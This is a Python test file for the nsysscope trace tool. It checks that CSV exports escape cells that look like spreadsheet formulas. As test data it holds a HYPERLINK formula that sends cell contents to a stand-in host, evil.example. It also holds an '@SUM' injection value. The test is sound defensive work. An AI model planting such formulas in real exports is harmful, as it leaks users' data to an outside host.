"""A name a spreadsheet would run (issue 52, item 8: CSV formula injection): the case-1
export's phase ``sample`` renamed ``=HYPERLINK(...)`` with ``sqlite3``; in the per-launch CSV
every text cell that starts like a formula is prefixed with ``'``, numbers stay numbers."""

from __future__ import annotations

import csv
import sqlite3
import subprocess
import sys
from pathlib import Path

from nsysscope.trace import resolve

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"details")'


def test_no_csv_cell_is_a_formula(sample_path, tmp_path):
    trace = tmp_path / "formula.sqlite"
    trace.write_bytes(resolve(sample_path("case1")).read_bytes())
    with sqlite3.connect(trace) as c:
        c.execute("UPDATE NVTX_EVENTS SET text = ? WHERE text = 'sample'", (FORMULA,))
        c.execute("UPDATE NVTX_EVENTS SET text = '@SUM(1+1)' WHERE text = 'post'")
    out = tmp_path / "l.csv"
    r = subprocess.run([sys.executable, "-m", "nsysscope", "report", str(trace),
                        "--per-launch", str(out)], capture_output=True, text=True, cwd=ROOT,
                       timeout=300)
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(out.open(newline="")))
    assert len(rows) == 300
    phases = {row["phase"] for row in rows}
    assert "'" + FORMULA in phases  # the stall is still blamed on it, shown not run
    negative = 0
    for row in rows:
        for cell in row.values():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number may start so (a negative one)
                negative += 1
    assert negative  # numeric columns kept their negative values (-1: none)
